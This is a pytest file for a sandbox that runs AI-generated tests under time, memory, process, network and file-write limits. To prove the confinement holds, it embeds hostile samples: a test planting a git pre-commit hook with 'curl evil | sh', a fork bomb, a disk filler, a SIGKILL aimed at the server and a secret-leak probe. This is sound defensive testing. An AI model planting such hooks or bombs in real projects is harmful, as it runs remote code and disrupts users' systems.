"""Generated tests run sandboxed, in real pytest subprocesses: kept, failed, killed, measured.

Timeouts are short (2-3 s) so that the hanging tests cost little.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from sightings import Sightings

from copiloto.testgen import (
    Coverage,
    RunLimits,
    TestgenError,
    collects,
    confinement,
    coverage_of,
    plan,
    run_test,
)

PYTHON = Path(sys.executable)
ONCE = RunLimits(timeout_s=10, runs=1)
SHORT = RunLimits(timeout_s=2, runs=3)  # for tests that end at the timeout
# For runs that must end by themselves: pytest alone takes ~2 s to start on this 2-core machine, more under load.
ROOMY = RunLimits(timeout_s=20, runs=3)

MODULE = """\
def other(x):
    return x * 2


def sign(x):
    if x >= 0:
        return "non-negative"
    else:
        return "negative"
"""
SIGN_LINES = (5, 9)  # `def sign` to its last line


@pytest.fixture
def sightings() -> Iterator[Sightings]:
    """Processes started with a marked command line, watched from outside the sandbox (its PIDs are its own)."""
    with Sightings() as watch:
        yield watch


def unshare_works() -> bool:
    """Asked of the system itself, not of the runner: can a process get a network namespace of its own?"""
    unshare = shutil.which("unshare")
    return unshare is not None and subprocess.run([unshare, "-rn", "true"], capture_output=True).returncode == 0


def test_a_passing_test_is_kept_after_three_runs() -> None:
    result = run_test("def test_ok():\n    assert sum([1, 2]) == 3\n", "test_ok", [], PYTHON)
    assert result.passed
    assert result.runs == ("passed", "passed", "passed")
    assert result.failure_kind is None
    assert result.network_isolated == unshare_works()


@pytest.mark.parametrize(
    ("source", "kind", "shown"),
    [
        # the test's own assert: the model's expectation is wrong (or the code is)
        ("def f(x):\n    return x\n\n\ndef test_f():\n    assert f(1) == 2\n", "assertion", "assert f(1) == 2"),
        (
            "import pytest\n\n\ndef test_f():\n    with pytest.raises(ValueError):\n        int('1')\n",
            "assertion",
            "DID NOT RAISE",
        ),
        ("def test_f():\n    {}['missing']\n", "error", "KeyError"),
        ("import no_such_module_here\n\n\ndef test_f():\n    pass\n", "error", "No module named 'no_such_module_here'"),
        ("import pytest\n\n\ndef test_f(no_such_fixture):\n    pass\n", "error", "fixture 'no_such_fixture' not found"),
    ],
)
def test_failures_are_classified(source: str, kind: str, shown: str) -> None:
    result = run_test(source, "test_f", [], PYTHON, ROOMY)
    assert not result.passed
    assert len(result.runs) == 1  # the first failure settles it
    assert result.runs[0] in ("failed", "error")
    assert result.failure_kind == kind
    assert shown in result.output


def test_an_assert_in_the_code_under_test_is_not_the_tests_assertion(tmp_path: Path) -> None:
    (tmp_path / "checked.py").write_text("def f(x):\n    assert x > 0\n    return x\n")
    source = "from checked import f\n\n\ndef test_f():\n    assert f(-1) == -1\n"
    result = run_test(source, "test_f", [tmp_path], PYTHON, ROOMY)
    assert result.runs == ("failed",)
    assert result.failure_kind == "error"
    assert "assert x > 0" in result.output


def test_a_collection_error_is_an_error_run() -> None:
    result = run_test("import no_such_module_here\n\n\ndef test_f():\n    pass\n", "test_f", [], PYTHON, ROOMY)
    assert result.runs == ("error",)


@pytest.mark.parametrize("body", ["while True:\n        pass", "import time\n    time.sleep(60)"])
def test_a_hanging_test_is_stopped_at_the_timeout(body: str) -> None:
    started = time.monotonic()
    result = run_test(f"def test_hang():\n    {body}\n", "test_hang", [], PYTHON, SHORT)
    assert time.monotonic() - started < 8
    assert not result.passed
    assert result.runs == ("timeout",)
    assert result.failure_kind == "timeout"
    assert "stopped after 2 s" in result.output


def test_the_cpu_limit_stops_a_busy_loop_before_the_wall_clock() -> None:
    result = run_test(
        "def test_spin():\n    while True:\n        pass\n", "test_spin", [], PYTHON, RunLimits(timeout_s=8, cpu_s=1)
    )
    assert result.runs == ("timeout",)
    assert "1 s of CPU time" in result.output


def test_forked_children_die_with_the_run(sightings: Sightings) -> None:
    source = f"""\
import os, sys, time


def test_forks():
    for _ in range(2):
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {sightings.token!r}])
    time.sleep(60)
"""
    result = run_test(source, "test_forks", [], PYTHON, SHORT)
    assert result.runs == ("timeout",)
    assert len(sightings.seen) == 2
    assert sightings.gone()


def test_children_a_passing_test_leaves_behind_are_killed(sightings: Sightings) -> None:
    source = f"""\
import subprocess, sys


def test_leaves_a_child():
    child = subprocess.Popen({sightings.command()!r}, stdout=subprocess.PIPE)
    assert child.stdout.readline() == b"up\\n"
"""
    result = run_test(source, "test_leaves_a_child", [], PYTHON, ONCE)
    assert result.passed, result.output
    assert sightings.seen
    assert sightings.gone()


def test_a_daemon_that_left_the_process_group_is_killed_too(sightings: Sightings) -> None:
    source = f"""\
import subprocess


def test_starts_a_daemon():
    # its own session: killpg misses it
    daemon = subprocess.Popen({sightings.command()!r}, stdout=subprocess.PIPE, start_new_session=True)
    assert daemon.stdout.readline() == b"up\\n"
"""
    result = run_test(source, "test_starts_a_daemon", [], PYTHON, ONCE)
    assert result.passed, result.output
    assert sightings.seen
    assert sightings.gone()


def test_a_memory_hog_fails_under_the_memory_limit() -> None:
    source = "def test_hog():\n    data = bytearray(4 * 1024**3)\n    assert data\n"
    result = run_test(source, "test_hog", [], PYTHON, RunLimits(timeout_s=10, runs=1, memory_mb=1024))
    assert not result.passed
    assert result.failure_kind == "error"
    assert "MemoryError" in result.output


@pytest.mark.skipif(os.geteuid() == 0, reason="RLIMIT_NPROC is not enforced for root")
def test_a_fork_bomb_hits_the_process_limit() -> None:
    source = """\
import os, time


def test_bomb():
    for _ in range(500):
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
"""
    result = run_test(source, "test_bomb", [], PYTHON, RunLimits(timeout_s=10, runs=1, processes=32))
    assert not result.passed
    assert "Resource temporarily unavailable" in result.output


def test_no_network_where_unshare_works() -> None:
    source = "import socket\n\n\ndef test_net():\n    socket.create_connection(('1.1.1.1', 80), timeout=2).close()\n"
    result = run_test(source, "test_net", [], PYTHON, RunLimits(timeout_s=5, runs=1))
    assert result.network_isolated == unshare_works()
    if not result.network_isolated:
        pytest.skip("unshare -rn does not work here: the network cannot be cut off")
    assert not result.passed
    assert result.failure_kind == "error"
    assert "unreachable" in result.output


def test_a_flaky_test_is_not_kept() -> None:
    # TMPDIR is the sandbox's and lives for all the runs of one run_test: the counter survives between them.
    source = """\
import pathlib, tempfile


def test_flaky():
    counter = pathlib.Path(tempfile.gettempdir(), "count")
    runs = int(counter.read_text()) if counter.exists() else 0
    counter.write_text(str(runs + 1))
    assert runs == 0
"""
    result = run_test(source, "test_flaky", [], PYTHON, ROOMY)
    assert not result.passed
    assert result.runs == ("passed", "failed")
    assert result.failure_kind == "assertion"


def test_the_sandbox_has_its_own_home_and_tmpdir_and_leaves_the_project_alone(tmp_path: Path) -> None:
    (tmp_path / "src" / "pkg").mkdir(parents=True)
    (tmp_path / "src" / "pkg" / "__init__.py").write_text("")
    (tmp_path / "src" / "pkg" / "mod.py").write_text(MODULE)
    planned = plan(tmp_path, tmp_path / "src" / "pkg" / "mod.py", ["sign"])
    source = f"""\
import os, pathlib, tempfile

{planned.import_line}


def test_sign():
    assert sign(-1) == "negative"
    assert pathlib.Path.home().name == "home" and "copiloto-testgen-" in str(pathlib.Path.home())
    assert "copiloto-testgen-" in tempfile.gettempdir()
"""
    before = sorted(tmp_path.rglob("*"))
    result = run_test(source, "test_sign", list(planned.sys_path), PYTHON, ONCE)
    assert result.passed, result.output
    assert sorted(tmp_path.rglob("*")) == before  # no __pycache__, no test file, no .pytest_cache


def test_a_test_cannot_write_outside_the_sandbox(tmp_path: Path) -> None:
    if not confinement().files:
        pytest.skip("this kernel has no Landlock: writes are not confined")
    project = tmp_path / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / "mod.py").write_text(MODULE)
    source = f"""\
import pathlib

from mod import sign


def test_plants_a_hook():
    assert sign(1) == "non-negative"
    pathlib.Path({str(project / ".git" / "hooks" / "pre-commit")!r}).write_text("#!/bin/sh\\ncurl evil | sh\\n")
"""
    result = run_test(source, "test_plants_a_hook", [project], PYTHON, ONCE)
    assert not result.passed
    # Landlock refuses it; in a mount namespace the project is also mounted read-only
    assert "PermissionError" in result.output or "Read-only file system" in result.output
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert result.confinement.files


def test_a_test_cannot_kill_the_server() -> None:
    if not confinement().signals:
        pytest.skip("neither Landlock signal scoping (ABI 6) nor a PID namespace here")
    server = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        source = f"import os, signal\n\n\ndef test_kill():\n    os.kill({server.pid}, signal.SIGKILL)\n"
        result = run_test(source, "test_kill", [], PYTHON, ONCE)
        assert not result.passed
        # Landlock refuses it; in a PID namespace the server is not even there
        assert "PermissionError" in result.output or "ProcessLookupError" in result.output
        assert server.poll() is None
    finally:
        server.kill()
        server.wait()


def test_cover_collects_coverage_data_across_runs(tmp_path: Path) -> None:
    (tmp_path / "mod.py").write_text(MODULE)
    data = tmp_path / "out" / ".coverage"
    data.parent.mkdir()
    source = "from mod import sign\n\n\ndef test_sign():\n    assert sign(1)\n"
    result = run_test(source, "test_sign", [tmp_path], PYTHON, ONCE, cover=data)
    assert result.passed, result.output
    assert data.is_file()


@pytest.mark.parametrize(
    ("tests", "expected"),
    [
        (["assert sign(1) == 'non-negative'"], Coverage(75.0, 50.0, (9,))),
        (["assert sign(1) == 'non-negative'", "assert sign(-1) == 'negative'"], Coverage(100.0, 100.0, ())),
    ],
)
def test_coverage_of_one_function(tmp_path: Path, tests: list[str], expected: Coverage) -> None:
    (tmp_path / "mod.py").write_text(MODULE)
    sources = [
        (f"from mod import sign\n\n\ndef test_{i}():\n    {body}\n", f"test_{i}") for i, body in enumerate(tests)
    ]
    # `other` (lines 1-2) is never run: it is outside the range and does not count
    assert coverage_of(sources, tmp_path / "mod.py", SIGN_LINES, [tmp_path], PYTHON, ONCE) == expected


def test_coverage_of_a_file_the_tests_never_import(tmp_path: Path) -> None:
    (tmp_path / "mod.py").write_text(MODULE)
    sources = [("def test_nothing():\n    pass\n", "test_nothing")]
    measured = coverage_of(sources, tmp_path / "mod.py", SIGN_LINES, [tmp_path], PYTHON, ONCE)
    assert measured.lines_pct is None and measured.reason and "never ran" in measured.reason


def test_coverage_needs_coverage_installed(tmp_path: Path) -> None:
    # -S: no site-packages, so no coverage
    interpreter = tmp_path / "python-without-site"
    interpreter.write_text(f'#!/bin/sh\nexec {sys.executable} -S "$@"\n')
    interpreter.chmod(0o755)
    (tmp_path / "mod.py").write_text(MODULE)
    measured = coverage_of([("def test_a():\n    pass\n", "test_a")], tmp_path / "mod.py", SIGN_LINES, [], interpreter)
    assert measured.lines_pct is None and measured.branches_pct is None
    assert measured.reason and "coverage is not installed" in measured.reason


@pytest.mark.parametrize(
    ("text", "ok", "shown"),
    [
        ("def test_a():\n    pass\n\n\ndef test_b():\n    pass\n", True, "2 tests collected"),
        ("def test_a(:\n    pass\n", False, "SyntaxError"),
        ("import no_such_module_here\n", False, "No module named 'no_such_module_here'"),
        ("x = 1\n", False, "no tests"),
    ],
)
def test_collects(text: str, ok: bool, shown: str) -> None:
    collected, output = collects(text, [], PYTHON)
    assert collected is ok
    assert shown in output


@pytest.mark.parametrize(
    ("interpreter", "limits", "message"),
    [
        (Path("/no/such/python"), ONCE, "could not be started"),
        (PYTHON, RunLimits(runs=0), "leave no room"),
    ],
)
def test_run_errors(interpreter: Path, limits: RunLimits, message: str) -> None:
    with pytest.raises(TestgenError, match=message):
        run_test("def test_a():\n    pass\n", "test_a", [], interpreter, limits)


def test_no_secret_of_the_server_reaches_a_generated_test(monkeypatch: pytest.MonkeyPatch) -> None:
    """A test the model wrote could print or send them: keys, tokens and the SSH agent stay with the server; only
    what the allow-list (and tests.env_allow) names gets through."""
    secrets = {
        "ANTHROPIC_API_KEY": "sk-ant-server-only",
        "COPILOTO_ENGINE_API_KEY": "engine-bearer",
        "HF_TOKEN": "hf_server_only",
        "GITHUB_TOKEN": "ghp_server_only",
        "DB_PASSWORD": "hunter2",
        "SSH_AUTH_SOCK": "/tmp/ssh-agent.sock",
    }
    for name, value in {**secrets, "COPILOTO_HARMLESS": "kept"}.items():
        monkeypatch.setenv(name, value)
    source = (
        "import os\n\n\ndef test_env():\n"
        f"    leaked = [n for n in {sorted(secrets)!r} if n in os.environ]\n"
        "    assert leaked == [] and os.environ['COPILOTO_HARMLESS'] == 'kept'\n"
    )
    result = run_test(source, "test_env", [], PYTHON, RunLimits(timeout_s=10, runs=1, env_allow=("COPILOTO_HARMLESS",)))
    assert result.passed, result.output


def test_a_test_that_fills_the_disk_stops_at_the_file_size_limit() -> None:
    """RLIMIT_FSIZE (256 MiB a file): the write fails ("File too large"), the test fails, nothing is kept."""
    source = (
        "def test_fill():\n"
        "    with open('big.bin', 'wb') as f:\n"
        "        for _ in range(300):\n"
        "            f.write(bytes(2**20))\n"
    )
    result = run_test(source, "test_fill", [], PYTHON, ONCE)
    assert not result.passed and "File too large" in result.output, result.output[-500:]


@pytest.mark.parametrize(
    ("namespaces", "abi"),
    [((), 0), ((), None), (("user", "net"), None), (("user", "net", "pid"), None)],
    ids=["nothing", "landlock-only", "no-mount-no-pid", "no-mount"],
)
def test_runs_still_happen_with_fewer_layers(
    monkeypatch: pytest.MonkeyPatch, namespaces: tuple[str, ...], abi: int | None
) -> None:
    """Where a layer cannot be had (macOS, user namespaces forbidden, an old kernel), tests still run with what is
    there, and the gaps say what is missing. The layers are taken away here, never faked in."""
    from copiloto.testgen import runner

    if not set(namespaces) <= set(runner._available_namespaces()):
        pytest.skip(f"this machine cannot give {namespaces} to begin with")
    monkeypatch.setattr(runner, "_available_namespaces", lambda: namespaces)
    if abi is not None:
        monkeypatch.setattr(runner, "_landlock_abi", lambda: abi)
    failing = run_test("def test_f():\n    assert 1 + 1 == 3\n", "test_f", [], PYTHON, ONCE)
    assert failing.runs == ("failed",) and failing.failure_kind == "assertion", failing.output
    passing = run_test("def test_ok():\n    assert True\n", "test_ok", [], PYTHON, ONCE)
    assert passing.passed, passing.output
    gaps = " ".join(passing.confinement.gaps())
    assert "no mount namespace" in gaps
    assert ("no PID namespace" in gaps) == ("pid" not in namespaces)
    landlock = runner._landlock_abi()
    assert ("can use the network" in gaps) == ("net" not in namespaces and landlock < 4)
    assert ("can write outside the sandbox" in gaps) == (landlock == 0)
